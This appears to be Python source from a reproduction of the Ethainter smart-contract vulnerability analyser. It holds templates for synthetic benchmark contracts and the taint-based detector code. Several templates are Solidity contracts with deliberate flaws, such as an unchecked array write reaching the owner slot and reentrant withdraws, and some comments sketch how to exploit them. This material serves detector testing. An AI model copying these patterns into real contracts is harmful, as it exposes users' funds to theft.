        exploitable_selfdestruct=True,  # grant(attacker, ROLE) then shutdown
        solidity_version=_version(rng),
    )


def large_dao(rng: random.Random) -> TemplateOutput:
    """A governance-style contract big enough to trip Securify2's size
    cutoff (the paper's 441-of-7,276 timeout class) while staying benign.

    Also a stress case for the decompiler (many public functions, deep
    dispatcher) and for per-contract analysis latency.
    """
    name = _name(rng)
    owner = _owner_var(rng)
    proposal_count = rng.randrange(6, 10)
    sections = []
    for index in range(proposal_count):
        sections.append(
            """
    uint256 tally%(i)d;
    function voteFor%(i)d(uint256 weight) public {
        require(weight > 0);
        uint256 adjusted = weight;
        if (adjusted > 100) { adjusted = 100; }
        tally%(i)d += adjusted;
        votes[msg.sender] += adjusted;
    }
    function tallyOf%(i)d() public returns (uint256) { return tally%(i)d; }"""
            % {"i": index}
        )
    source = """
contract %(name)s {
    mapping(address => uint256) votes;
    address %(owner)s;
    uint256 quorum;

    constructor() { %(owner)s = msg.sender; quorum = %(quorum)d; }

    function setQuorum(uint256 q) public {
        require(msg.sender == %(owner)s);
        quorum = q;
    }%(sections)s%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        "quorum": rng.randrange(10, 1000),
        "sections": "".join(sections),
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="large_dao",
        contract_name=name,
        source=source,
        solidity_version=_version(rng, modern_bias=0.6),
    )



def array_write_unchecked(rng: random.Random) -> TemplateOutput:
    """Unchecked array index write: raw slot arithmetic lets the attacker
    overwrite ANY slot, including the owner — the true "unrestricted write"
    StorageWrite-2 exists for (and the real-world bug class behind several
    storage-collision exploits)."""
    name = _name(rng)
    owner = _owner_var(rng)
    size = rng.randrange(2, 8)
    source = """
contract %(name)s {
    uint256[%(size)d] cells;
    address %(owner)s;

    constructor() { %(owner)s = msg.sender; }

    function store(uint256 index, uint256 value) public {
        cells[index] = value;
    }
    function load(uint256 index) public returns (uint256) {
        return cells[index];
    }
    function shutdown() public {
        require(msg.sender == %(owner)s);
        selfdestruct(%(owner)s);
    }%(decoys)s
}
""" % {
        "name": name,
        "size": size,
        "owner": owner,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="array_write_unchecked",
        contract_name=name,
        source=source,
        labels={TAINTED_OWNER, ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT},
        exploitable_selfdestruct=True,  # store(ownerSlot, attacker); shutdown()
        solidity_version=_version(rng),
    )


def array_write_checked(rng: random.Random) -> TemplateOutput:
    """Bounds-checked array write: genuinely confined to the array's slots,
    but the range check is not a sender guard, so StorageWrite-2 still
    smears — an honest Ethainter false positive (the aliasing
    under-approximation's flip side, §4.4)."""
    name = _name(rng)
    owner = _owner_var(rng)
    size = rng.randrange(2, 8)
    source = """
contract %(name)s {
    uint256[%(size)d] cells;
    address %(owner)s;

    constructor() { %(owner)s = msg.sender; }

    function store(uint256 index, uint256 value) public {
        require(index < %(size)d);
        cells[index] = value;
    }
    function shutdown() public {
        require(msg.sender == %(owner)s);
        selfdestruct(%(owner)s);
    }%(decoys)s
}
""" % {
        "name": name,
        "size": size,
        "owner": owner,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="array_write_checked",
        contract_name=name,
        source=source,
        labels=set(),
        exploitable_selfdestruct=False,
        expected_fp_kinds={TAINTED_OWNER, ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT},
        solidity_version=_version(rng),
    )


def computed_flag_write(rng: random.Random) -> TemplateOutput:
    """Array write whose index is a *comparison result* — bounded to {0,1}
    by construction, so it can never reach the owner slot, but the index is
    still computed (non-constant), so StorageWrite-2 smears it onto every
    known slot.  The value-set stratum resolves the index set exactly and
    eliminates the smear; under the default config these are the
    over-report kinds recorded in ``expected_fp_kinds``."""
    name = _name(rng)
    owner = _owner_var(rng)
    magic = rng.randrange(2, 1 << 16)
    source = """
contract %(name)s {
    uint256[2] flags;
    address %(owner)s;

    constructor() { %(owner)s = msg.sender; }

    function record(uint256 code, uint256 value) public {
        flags[code == %(magic)d] = value;
    }
    function readFlag(uint256 code) public returns (uint256) {
        return flags[code == %(magic)d];
    }
    function shutdown() public {
        require(msg.sender == %(owner)s);
        selfdestruct(%(owner)s);
    }%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        "magic": magic,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="computed_flag_write",
        contract_name=name,
        source=source,
        labels=set(),
        exploitable_selfdestruct=False,
        expected_fp_kinds={TAINTED_OWNER, ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT},
        solidity_version=_version(rng),
    )


# --------------------------------------------------------------------------
# Reentrancy stratum templates (labeled ground truth; separate registry so
# the default corpus mix — and every report derived from it — is unchanged)
# --------------------------------------------------------------------------


def reentrant_withdraw(rng: random.Random) -> TemplateOutput:
    """DAO-style withdraw: pay out before decrementing the balance."""
    name = _name(rng)
    source = """
contract %(name)s {
    mapping(address => uint256) deposits;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(deposits[msg.sender] >= amount);
        transfer(msg.sender, amount);
        deposits[msg.sender] -= amount;
    }%(decoys)s
}
""" % {"name": name, "decoys": _decoys(rng)}
    return TemplateOutput(
        template="reentrant_withdraw",
        contract_name=name,
        source=source,
        labels={REENTRANT_CALL},
        solidity_version=_version(rng),
    )


def cei_withdraw(rng: random.Random) -> TemplateOutput:
    """The checks-effects-interactions fix of ``reentrant_withdraw``."""
    name = _name(rng)
    source = """
contract %(name)s {
    mapping(address => uint256) deposits;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(deposits[msg.sender] >= amount);
        deposits[msg.sender] -= amount;
        transfer(msg.sender, amount);
    }%(decoys)s
}
""" % {"name": name, "decoys": _decoys(rng)}
    return TemplateOutput(
        template="cei_withdraw",
        contract_name=name,
        source=source,
        labels=set(),
        solidity_version=_version(rng),
    )


def mutex_withdraw(rng: random.Random) -> TemplateOutput:
    """Effects after the call, but behind a storage mutex: safe."""
    name = _name(rng)
    source = """
contract %(name)s {
    mapping(address => uint256) deposits;
    uint256 locked;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(locked == 0);
        locked = 1;
        require(deposits[msg.sender] >= amount);
        transfer(msg.sender, amount);
        deposits[msg.sender] -= amount;
        locked = 0;
    }%(decoys)s
}
""" % {"name": name, "decoys": _decoys(rng)}
    return TemplateOutput(
        template="mutex_withdraw",
        contract_name=name,
        source=source,
        labels=set(),
        solidity_version=_version(rng),
    )


def cross_function_reentrancy(rng: random.Random) -> TemplateOutput:
    """Withdraw-all zeroes the balance after paying; the re-entered
    fallback can spend the stale balance through ``moveTo`` meanwhile."""
    name = _name(rng)
    source = """
contract %(name)s {
    mapping(address => uint256) deposits;

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdrawAll() public {
        require(deposits[msg.sender] > 0);
        transfer(msg.sender, deposits[msg.sender]);
        deposits[msg.sender] = 0;
    }
    function moveTo(address to, uint256 value) public {
        require(deposits[msg.sender] >= value);
        deposits[msg.sender] -= value;
        deposits[to] += value;
    }%(decoys)s
}
""" % {"name": name, "decoys": _decoys(rng)}
    return TemplateOutput(
        template="cross_function_reentrancy",
        contract_name=name,
        source=source,
        labels={REENTRANT_CALL},
        solidity_version=_version(rng),
    )


def composite_reentrancy(rng: random.Random) -> TemplateOutput:
    """The composite chain: an unguarded setter taints the curator slot,
    which compromises the guard on a reentrant withdraw — the mutex-free
    payout is only reachable *because* the owner is attacker-controlled."""
    name = _name(rng)
    owner = _owner_var(rng)
    source = """
contract %(name)s {
    mapping(address => uint256) deposits;
    address %(owner)s;

    function setCurator(address who) public {
        %(owner)s = who;
    }
    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(msg.sender == %(owner)s);
        require(deposits[msg.sender] >= amount);
        transfer(msg.sender, amount);
        deposits[msg.sender] -= amount;
    }%(decoys)s
}
""" % {"name": name, "owner": owner, "decoys": _decoys(rng)}
    return TemplateOutput(
        template="composite_reentrancy",
        contract_name=name,
        source=source,
        labels={REENTRANT_CALL, TAINTED_OWNER},
        solidity_version=_version(rng),
    )


def unordered_payout(rng: random.Random) -> TemplateOutput:
    """A write after the call to a path never checked before it: the
    weaker checks-effects-interactions smell, not exploitable as a drain."""
    name = _name(rng)
    source = """
contract %(name)s {
    uint256 paidOut;

    function payout(uint256 amount) public {
        transfer(msg.sender, amount);
        paidOut += amount;
    }%(decoys)s
}
""" % {"name": name, "decoys": _decoys(rng)}
    return TemplateOutput(
        template="unordered_payout",
        contract_name=name,
        source=source,
        labels={STATE_WRITE_AFTER_CALL},
        solidity_version=_version(rng),
    )


TEMPLATES: Dict[str, Callable[[random.Random], TemplateOutput]] = {
    "safe_owned": safe_owned,
    "safe_token": safe_token,
    "safe_wallet": safe_wallet,
    "guarded_delegatecall": guarded_delegatecall,
    "checked_staticcall": checked_staticcall,
    "open_selfdestruct": open_selfdestruct,
    "tainted_selfdestruct_direct": tainted_selfdestruct_direct,
    "tainted_owner_simple": tainted_owner_simple,
    "tainted_selfdestruct_storage": tainted_selfdestruct_storage,
    "composite_victim": composite_victim,
    "composite_registry": composite_registry,
    "tainted_delegatecall": tainted_delegatecall,
    "delegatecall_via_storage": delegatecall_via_storage,
    "unchecked_staticcall": unchecked_staticcall,
    "fp_one_shot_init": fp_one_shot_init,
    "fp_game_winner": fp_game_winner,
    "kill_magic_value": kill_magic_value,
    "dead_state_selfdestruct": dead_state_selfdestruct,
    "nested_role_registry": nested_role_registry,
    "large_dao": large_dao,
    "array_write_unchecked": array_write_unchecked,
    "array_write_checked": array_write_checked,
    "computed_flag_write": computed_flag_write,
}

# The labeled reentrancy set, kept out of TEMPLATES (and hence out of
# DEFAULT_WEIGHTS) so the default corpus mix and every report generated
# from it stay byte-identical.  ``generate_corpus(templates=[...])``
# resolves these names too; the precision benchmark iterates this
# registry directly.
REENTRANCY_TEMPLATES: Dict[str, Callable[[random.Random], TemplateOutput]] = {
    "reentrant_withdraw": reentrant_withdraw,
    "cei_withdraw": cei_withdraw,
    "mutex_withdraw": mutex_withdraw,
    "cross_function_reentrancy": cross_function_reentrancy,
    "composite_reentrancy": composite_reentrancy,
    "unordered_payout": unordered_payout,
}
