"""The five Ethainter vulnerability detectors (paper §3).

Each detector consumes the taint fixpoint plus the static models and yields
:class:`Finding` records.  Detector-by-detector correspondence with §3:

* **accessible selfdestruct** (§3.3) — a ``SELFDESTRUCT`` statement the
  attacker can reach, directly or after compromising every guard on the way
  (composite escalation).
* **tainted selfdestruct** (§3.4) — the beneficiary address of a
  ``SELFDESTRUCT`` is tainted.  No reachability requirement on the
  instruction itself: a privileged caller will eventually execute it and pay
  out to the attacker's planted address.
* **tainted owner variable** (§3.1, computed sinks of §4.5) — a constant
  storage slot that some guard compares against ``msg.sender`` ("owner") is
  attacker-taintable.
* **tainted delegatecall** (§3.2) — the target of a ``DELEGATECALL`` is
  tainted.
* **unchecked tainted staticcall** (§3.5) — a ``STATICCALL`` whose output
  buffer overlaps its input buffer, with no ``RETURNDATASIZE`` check after
  the call, and attacker influence on the call (target or input buffer): a
  short callee return leaves the attacker's input in place as if it were the
  callee's answer.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set

from repro.core.facts import ContractFacts
from repro.core.guards import GuardModel
from repro.core.storage_model import StorageModel, memory_var
from repro.core.taint import TaintResult

ACCESSIBLE_SELFDESTRUCT = "accessible-selfdestruct"
TAINTED_SELFDESTRUCT = "tainted-selfdestruct"
TAINTED_OWNER = "tainted-owner-variable"
TAINTED_DELEGATECALL = "tainted-delegatecall"
UNCHECKED_STATICCALL = "unchecked-tainted-staticcall"

VULNERABILITY_KINDS = (
    ACCESSIBLE_SELFDESTRUCT,
    TAINTED_SELFDESTRUCT,
    TAINTED_OWNER,
    TAINTED_DELEGATECALL,
    UNCHECKED_STATICCALL,
)


@dataclass(frozen=True)
class Finding:
    """One vulnerability report."""

    kind: str
    statement: str  # TAC statement id ("" for slot-level findings)
    pc: int  # bytecode offset (-1 when not applicable)
    detail: str = ""
    slot: Optional[int] = None


def detect(
    facts: ContractFacts,
    storage: StorageModel,
    guards: GuardModel,
    taint: TaintResult,
) -> List[Finding]:
    """Run all five detectors over one contract's analysis artifacts."""
    findings: List[Finding] = []

    # -------------------------------------------- accessible selfdestruct
    for stmt in facts.selfdestructs:
        if taint.is_reachable(stmt.ident):
            findings.append(
                Finding(
                    kind=ACCESSIBLE_SELFDESTRUCT,
                    statement=stmt.ident,
                    pc=stmt.pc,
                    detail="SELFDESTRUCT reachable by attacker",
                )
            )

    # ---------------------------------------------- tainted selfdestruct
    for stmt in facts.selfdestructs:
        beneficiary = stmt.uses[0]
        if taint.is_tainted(beneficiary):
            flavor = (
                "storage" if beneficiary in taint.storage_tainted else "input"
            )
            findings.append(
                Finding(
                    kind=TAINTED_SELFDESTRUCT,
                    statement=stmt.ident,
                    pc=stmt.pc,
                    detail="beneficiary %s carries %s taint" % (beneficiary, flavor),
                )
            )

    # --------------------------------------------- tainted owner variable
    for slot in sorted(guards.sink_slots):
        if slot in taint.tainted_slots:
            findings.append(
                Finding(
                    kind=TAINTED_OWNER,
                    statement=taint.slot_witness.get(slot, ""),
                    pc=-1,
                    detail="owner-comparison slot %d is attacker-taintable" % slot,
                    slot=slot,
                )
            )

    # ------------------------------------------------ tainted delegatecall
    for call in facts.calls:
        if call.kind != "DELEGATECALL":
            continue
        if taint.is_tainted(call.address_var):
            findings.append(
                Finding(
                    kind=TAINTED_DELEGATECALL,
                    statement=call.statement.ident,
                    pc=call.statement.pc,
                    detail="delegatecall target %s tainted" % call.address_var,
                )
            )

    # ----------------------------------- unchecked tainted staticcall
    for call in facts.calls:
        if call.kind != "STATICCALL":
            continue
        overlap = (
            call.in_offset is not None
            and call.out_offset is not None
            and call.in_offset == call.out_offset
        )
        if not overlap:
            continue
        checked = call.statement.block in facts.returndatasize_blocks
        if checked:
            continue
        input_mem = memory_var(call.in_offset) if call.in_offset is not None else None
        influenced = taint.is_tainted(call.address_var) or (
            input_mem is not None and taint.is_tainted(input_mem)
        )
        if influenced:
            findings.append(
                Finding(
                    kind=UNCHECKED_STATICCALL,
                    statement=call.statement.ident,
                    pc=call.statement.pc,
                    detail="output overwrites input without RETURNDATASIZE check",
                )
            )

    return findings


def findings_by_kind(findings: List[Finding]) -> Dict[str, List[Finding]]:
    """Group findings by vulnerability kind (all kinds always present)."""
    grouped: Dict[str, List[Finding]] = {kind: [] for kind in VULNERABILITY_KINDS}
    for finding in findings:
        grouped.setdefault(finding.kind, []).append(finding)
    return grouped
