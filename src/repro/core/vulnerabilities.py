"""The Ethainter vulnerability detectors (paper §3, plus the reentrancy
stratum).

Each detector consumes the taint fixpoint plus the static models and yields
:class:`Finding` records.  Detector-by-detector correspondence with §3:

* **accessible selfdestruct** (§3.3) — a ``SELFDESTRUCT`` statement the
  attacker can reach, directly or after compromising every guard on the way
  (composite escalation).
* **tainted selfdestruct** (§3.4) — the beneficiary address of a
  ``SELFDESTRUCT`` is tainted.  No reachability requirement on the
  instruction itself: a privileged caller will eventually execute it and pay
  out to the attacker's planted address.
* **tainted owner variable** (§3.1, computed sinks of §4.5) — a constant
  storage slot that some guard compares against ``msg.sender`` ("owner") is
  attacker-taintable.
* **tainted delegatecall** (§3.2) — the target of a ``DELEGATECALL`` is
  tainted.
* **unchecked tainted staticcall** (§3.5) — a ``STATICCALL`` whose output
  buffer overlaps its input buffer, with no ``RETURNDATASIZE`` check after
  the call, and attacker influence on the call (target or input buffer): a
  short callee return leaves the attacker's input in place as if it were the
  callee's answer.

Two reentrancy detectors over the ordering stratum
(:mod:`repro.core.ordering`; rule shapes after Chinen et al. and
Samreen & Alalfi):

* **reentrant call** — an attacker-reachable, gas-forwarding external call
  after which a storage path is written that was also *checked* (loaded)
  before the call, with no mutex set on the way: the callee can re-enter
  while the check still sees stale state.  Composes with guard compromise —
  an owner-guarded withdraw becomes reentrant once the owner slot is
  attacker-tainted.
* **state write after call** — the weaker checks-effects-interactions smell:
  a write follows the call but the path was never read before it.  Reported
  only when the same call is not already flagged reentrant.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Set, Tuple

from repro.core.facts import ContractFacts
from repro.core.guards import GuardModel
from repro.core.ordering import CallOrderModel, build_call_order_model
from repro.core.storage_model import StorageModel, memory_var
from repro.core.taint import TaintResult

ACCESSIBLE_SELFDESTRUCT = "accessible-selfdestruct"
TAINTED_SELFDESTRUCT = "tainted-selfdestruct"
TAINTED_OWNER = "tainted-owner-variable"
TAINTED_DELEGATECALL = "tainted-delegatecall"
UNCHECKED_STATICCALL = "unchecked-tainted-staticcall"
REENTRANT_CALL = "reentrant-call"
STATE_WRITE_AFTER_CALL = "state-write-after-call"

VULNERABILITY_KINDS = (
    ACCESSIBLE_SELFDESTRUCT,
    TAINTED_SELFDESTRUCT,
    TAINTED_OWNER,
    TAINTED_DELEGATECALL,
    UNCHECKED_STATICCALL,
    REENTRANT_CALL,
    STATE_WRITE_AFTER_CALL,
)

# Verdicts only the merged multi-contract fixpoint can derive
# (repro.core.linkage).  Kept out of VULNERABILITY_KINDS: the per-contract
# detectors, kinds filters, and SweepReport.kind_counts keep their exact
# shapes, and a cross-contract finding can never appear in a
# single-contract report.
PROXY_UPGRADE_HIJACK = "proxy-upgrade-hijack"
CROSS_CONTRACT_ESCALATION = "cross-contract-escalation"

CROSS_CONTRACT_KINDS = (
    PROXY_UPGRADE_HIJACK,
    CROSS_CONTRACT_ESCALATION,
)


class UnknownKindError(ValueError):
    """A kinds filter named a vulnerability kind that does not exist."""

    def __init__(self, kind: str):
        self.kind = kind
        super().__init__(
            "unknown vulnerability kind %r: valid kinds are %s"
            % (kind, ", ".join(VULNERABILITY_KINDS))
        )


def validate_kinds(kinds: Optional[Iterable[str]]) -> Optional[Tuple[str, ...]]:
    """Normalize a kinds filter to a sorted tuple; None passes through.

    Raises :class:`UnknownKindError` naming the first unknown entry.
    """
    if kinds is None:
        return None
    normalized = []
    for kind in kinds:
        if kind not in VULNERABILITY_KINDS:
            raise UnknownKindError(kind)
        normalized.append(kind)
    return tuple(sorted(set(normalized)))


@dataclass(frozen=True)
class Finding:
    """One vulnerability report."""

    kind: str
    statement: str  # TAC statement id ("" for slot-level findings)
    pc: int  # bytecode offset (-1 when not applicable)
    detail: str = ""
    slot: Optional[int] = None


def detect(
    facts: ContractFacts,
    storage: StorageModel,
    guards: GuardModel,
    taint: TaintResult,
    ordering: Optional[CallOrderModel] = None,
    kinds: Optional[Tuple[str, ...]] = None,
) -> List[Finding]:
    """Run all detectors over one contract's analysis artifacts.

    ``ordering`` carries the reentrancy stratum (computed on the fly when
    omitted, for backward compatibility); ``kinds`` optionally restricts
    the returned findings to a validated subset of
    :data:`VULNERABILITY_KINDS`.
    """
    if ordering is None:
        ordering = build_call_order_model(facts, storage, guards)
    findings: List[Finding] = []

    # -------------------------------------------- accessible selfdestruct
    for stmt in facts.selfdestructs:
        if taint.is_reachable(stmt.ident):
            findings.append(
                Finding(
                    kind=ACCESSIBLE_SELFDESTRUCT,
                    statement=stmt.ident,
                    pc=stmt.pc,
                    detail="SELFDESTRUCT reachable by attacker",
                )
            )

    # ---------------------------------------------- tainted selfdestruct
    for stmt in facts.selfdestructs:
        beneficiary = stmt.uses[0]
        if taint.is_tainted(beneficiary):
            flavor = (
                "storage" if beneficiary in taint.storage_tainted else "input"
            )
            findings.append(
                Finding(
                    kind=TAINTED_SELFDESTRUCT,
                    statement=stmt.ident,
                    pc=stmt.pc,
                    detail="beneficiary %s carries %s taint" % (beneficiary, flavor),
                )
            )

    # --------------------------------------------- tainted owner variable
    for slot in sorted(guards.sink_slots):
        if slot in taint.tainted_slots:
            findings.append(
                Finding(
                    kind=TAINTED_OWNER,
                    statement=taint.slot_witness.get(slot, ""),
                    pc=-1,
                    detail="owner-comparison slot %d is attacker-taintable" % slot,
                    slot=slot,
                )
            )

    # ------------------------------------------------ tainted delegatecall
    for call in facts.calls:
        if call.kind != "DELEGATECALL":
            continue
        if taint.is_tainted(call.address_var):
            findings.append(
                Finding(
                    kind=TAINTED_DELEGATECALL,
                    statement=call.statement.ident,
                    pc=call.statement.pc,
                    detail="delegatecall target %s tainted" % call.address_var,
                )
            )

    # ----------------------------------- unchecked tainted staticcall
    for call in facts.calls:
        if call.kind != "STATICCALL":
            continue
        overlap = (
            call.in_offset is not None
            and call.out_offset is not None
            and call.in_offset == call.out_offset
        )
        if not overlap:
            continue
        checked = call.statement.block in facts.returndatasize_blocks
        if checked:
            continue
        input_mem = memory_var(call.in_offset) if call.in_offset is not None else None
        influenced = taint.is_tainted(call.address_var) or (
            input_mem is not None and taint.is_tainted(input_mem)
        )
        if influenced:
            findings.append(
                Finding(
                    kind=UNCHECKED_STATICCALL,
                    statement=call.statement.ident,
                    pc=call.statement.pc,
                    detail="output overwrites input without RETURNDATASIZE check",
                )
            )

    # ------------------------- reentrant call / state write after call
    # STATICCALL runs read-only and DELEGATECALL is the §3.2 sink, so only
    # gas-forwarding CALL/CALLCODE sites appear here (site.reentrancy_capable).
    for call in facts.calls:
        site = ordering.site_of(call.statement.ident)
        if site is None or not site.reentrancy_capable:
            continue
        if not taint.is_reachable(site.statement_id):
            continue
        if site.mutex_guarded:
            continue
        if not site.stores_after:
            continue
        reentrant_paths = sorted(
            path for path in site.stores_after if path in site.paths_read_before
        )
        if reentrant_paths:
            findings.append(
                Finding(
                    kind=REENTRANT_CALL,
                    statement=site.statement_id,
                    pc=call.statement.pc,
                    detail="call forwards gas; %s checked before and written "
                    "after it (re-entrancy window)" % ", ".join(reentrant_paths),
                    slot=_path_slot(reentrant_paths[0]),
                )
            )
        else:
            stale_paths = sorted(site.stores_after)
            findings.append(
                Finding(
                    kind=STATE_WRITE_AFTER_CALL,
                    statement=site.statement_id,
                    pc=call.statement.pc,
                    detail="state write to %s after external call "
                    "(checks-effects-interactions violation)"
                    % ", ".join(stale_paths),
                    slot=_path_slot(stale_paths[0]),
                )
            )

    if kinds is not None:
        findings = [finding for finding in findings if finding.kind in kinds]
    return findings


def _path_slot(path: str) -> Optional[int]:
    """The concrete slot of a ``slot:<n>``/``map:<n>`` storage path."""
    try:
        return int(path.split(":", 1)[1])
    except (IndexError, ValueError):
        return None


def findings_by_kind(findings: List[Finding]) -> Dict[str, List[Finding]]:
    """Group findings by vulnerability kind (all kinds always present)."""
    grouped: Dict[str, List[Finding]] = {kind: [] for kind in VULNERABILITY_KINDS}
    for finding in findings:
        grouped.setdefault(finding.kind, []).append(finding)
    return grouped
