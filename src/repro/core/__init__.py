"""Ethainter core: composite information-flow analysis for EVM contracts.

The package implements the paper's contribution twice, at two levels:

* :mod:`repro.core.lang` + :mod:`repro.core.abstract_analysis` — the distilled
  formal model of §4 (Figures 1–4): the abstract input language, two taint
  flavors (input vs. storage), guard sanitization, and sender-keyed
  data-structure modeling.  Implemented both as a direct fixpoint and as
  Datalog rules (:mod:`repro.core.datalog_rules`), cross-checked in tests.
* The bytecode-level analysis of §5 (Figure 5): :mod:`repro.core.facts`
  extracts input relations from decompiled TAC, :mod:`repro.core.guards` and
  :mod:`repro.core.storage_model` compute the static strata
  (``StaticallyGuardedStatement``, DS/DSA, constant slots), and
  :mod:`repro.core.taint` runs the mutually recursive
  taint/attacker-reachability fixpoint.  :mod:`repro.core.vulnerabilities`
  derives the five vulnerability classes, and :mod:`repro.core.analysis`
  orchestrates everything behind :class:`EthainterAnalysis`.
"""

from repro.core.analysis import (
    AnalysisConfig,
    AnalysisResult,
    EthainterAnalysis,
    Warning,
    analyze_bytecode,
)
from repro.core.pipeline import (
    ArtifactCache,
    Deadline,
    DeadlineExceeded,
    Stage,
    StageTiming,
    STAGE_NAMES,
    run_pipeline,
)
from repro.core.vulnerabilities import VULNERABILITY_KINDS

__all__ = [
    "EthainterAnalysis",
    "AnalysisConfig",
    "AnalysisResult",
    "Warning",
    "analyze_bytecode",
    "ArtifactCache",
    "Deadline",
    "DeadlineExceeded",
    "Stage",
    "StageTiming",
    "STAGE_NAMES",
    "run_pipeline",
    "VULNERABILITY_KINDS",
]
