"""Input-relation extraction from decompiled TAC.

Produces a :class:`ContractFacts` bundle: the statement/def-use/constant
indexes the analysis rules consume, plus the *local memory model* of §5 —
``MSTORE``/``MLOAD`` at constant addresses become reads/writes of pseudo
"memory variables" (``m0x80`` …), and ``SHA3`` over scratch memory is
resolved to its argument variables (``HashOf``), which is how Solidity
mapping-slot computations become visible to the data-structure rules.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field
from typing import Dict, FrozenSet, List, Optional, Set, Tuple

from repro.ir.tac import TACProgram, TACStatement

# Opcodes whose result is a pure function of their *stack* operands; taint
# propagates operand -> result.  (SHA3 is handled via HashOf instead: its
# stack operands are buffer offsets, the data flows from memory.)
DATA_OPS = {
    "ADD", "MUL", "SUB", "DIV", "SDIV", "MOD", "SMOD", "ADDMOD", "MULMOD",
    "EXP", "SIGNEXTEND", "LT", "GT", "SLT", "SGT", "EQ", "ISZERO", "AND",
    "OR", "XOR", "NOT", "BYTE", "SHL", "SHR", "SAR",
}

# Environment opcodes whose results are attacker-independent.
ENV_OPS = {
    "ADDRESS", "ORIGIN", "CALLVALUE", "CALLDATASIZE", "CODESIZE", "GASPRICE",
    "RETURNDATASIZE", "COINBASE", "TIMESTAMP", "NUMBER", "DIFFICULTY",
    "GASLIMIT", "CHAINID", "SELFBALANCE", "PC", "MSIZE", "GAS", "BALANCE",
    "EXTCODESIZE", "EXTCODEHASH", "BLOCKHASH",
}


@dataclass
class StorageAccess:
    """One SLOAD/SSTORE: address variable, resolved constant slot if known."""

    statement: TACStatement
    address_var: str
    value_var: Optional[str]  # SSTORE only
    def_var: Optional[str]  # SLOAD only
    const_slot: Optional[int]


@dataclass
class MemoryAccess:
    """One MSTORE/MLOAD at a constant address."""

    statement: TACStatement
    address: int
    var: str  # stored value (MSTORE) or defined value (MLOAD)


@dataclass
class HashFact:
    """``def_var = SHA3(args...)`` with memory contents resolved."""

    statement: TACStatement
    def_var: str
    args: List[str]


@dataclass
class CallFact:
    """A CALL/DELEGATECALL/STATICCALL with named operand roles."""

    statement: TACStatement
    kind: str
    gas_var: str
    address_var: str
    value_var: Optional[str]
    in_offset: Optional[int]
    out_offset: Optional[int]
    in_offset_var: str = ""
    out_offset_var: str = ""


@dataclass
class ContractFacts:
    """All input relations for one contract."""

    program: TACProgram
    def_stmt: Dict[str, TACStatement] = field(default_factory=dict)
    const: Dict[str, int] = field(default_factory=dict)
    # Flow edges (source_var, dest_var, statement) through ops/phis/hash args.
    flow_edges: List[Tuple[str, str, TACStatement]] = field(default_factory=list)
    copy_edges: List[Tuple[str, str]] = field(default_factory=list)  # PHI only
    memory_writes: List[MemoryAccess] = field(default_factory=list)
    memory_reads: List[MemoryAccess] = field(default_factory=list)
    storage_stores: List[StorageAccess] = field(default_factory=list)
    storage_loads: List[StorageAccess] = field(default_factory=list)
    hashes: List[HashFact] = field(default_factory=list)
    caller_defs: Set[str] = field(default_factory=set)
    calldata_defs: List[Tuple[str, TACStatement]] = field(default_factory=list)
    selfdestructs: List[TACStatement] = field(default_factory=list)
    calls: List[CallFact] = field(default_factory=list)
    jumpis: List[TACStatement] = field(default_factory=list)
    returndatasize_blocks: Set[str] = field(default_factory=set)
    # The ``VariableValues`` relation from the optional value-analysis
    # stratum (:mod:`repro.ir.value_analysis`): var -> bounded set of
    # possible 256-bit values.  Empty when the stratum is disabled.
    variable_values: Dict[str, FrozenSet[int]] = field(default_factory=dict)

    def value_set(self, variable: str) -> Optional[FrozenSet[int]]:
        """Bounded value set for ``variable``: the value-analysis relation
        when populated, else a lifter-constant singleton, else None."""
        values = self.variable_values.get(variable)
        if values:
            return values
        constant = self.const.get(variable)
        if constant is not None:
            return frozenset((constant,))
        return None

    def with_variable_values(
        self, values: Dict[str, FrozenSet[int]]
    ) -> "ContractFacts":
        """A copy of these facts carrying ``values`` as ``VariableValues``.

        A *copy*, not a mutation: the bare facts artifact may be shared
        through the :class:`~repro.core.pipeline.ArtifactCache` with
        configurations that have the value-analysis stratum disabled.
        """
        return dataclasses.replace(self, variable_values=dict(values))

    @property
    def known_slots(self) -> Set[int]:
        """All constant storage slots appearing in any access ("arising in
        the analysis", per rule StorageWrite-2)."""
        slots: Set[int] = set()
        for access in self.storage_stores + self.storage_loads:
            if access.const_slot is not None:
                slots.add(access.const_slot)
        return slots


def _resolve_memory_word(
    last_write: Dict[int, str], address: int
) -> Optional[str]:
    return last_write.get(address)


def extract_facts(program: TACProgram) -> ContractFacts:
    """Build :class:`ContractFacts` from a decompiled program."""
    facts = ContractFacts(program=program)
    facts.def_stmt = program.defining_statement()
    facts.const = dict(program.const_value)

    for block in program.blocks.values():
        # Block-local memory model for SHA3 argument recovery: last constant
        # write per word address; cleared by unknown-address writes and calls
        # (which may write their output buffer).
        last_write: Dict[int, str] = {}
        for stmt in block.statements:
            op = stmt.opcode
            if op == "PHI":
                for source in stmt.uses:
                    facts.copy_edges.append((source, stmt.def_var))
                    facts.flow_edges.append((source, stmt.def_var, stmt))
                continue
            if op == "CONST":
                continue
            if op in DATA_OPS:
                for source in stmt.uses:
                    facts.flow_edges.append((source, stmt.def_var, stmt))
                continue
            if op == "CALLER":
                facts.caller_defs.add(stmt.def_var)
                continue
            if op in ("CALLDATALOAD",):
                facts.calldata_defs.append((stmt.def_var, stmt))
                continue
            if op == "MSTORE":
                address_var, value_var = stmt.uses
                address = facts.const.get(address_var)
                if address is not None:
                    facts.memory_writes.append(
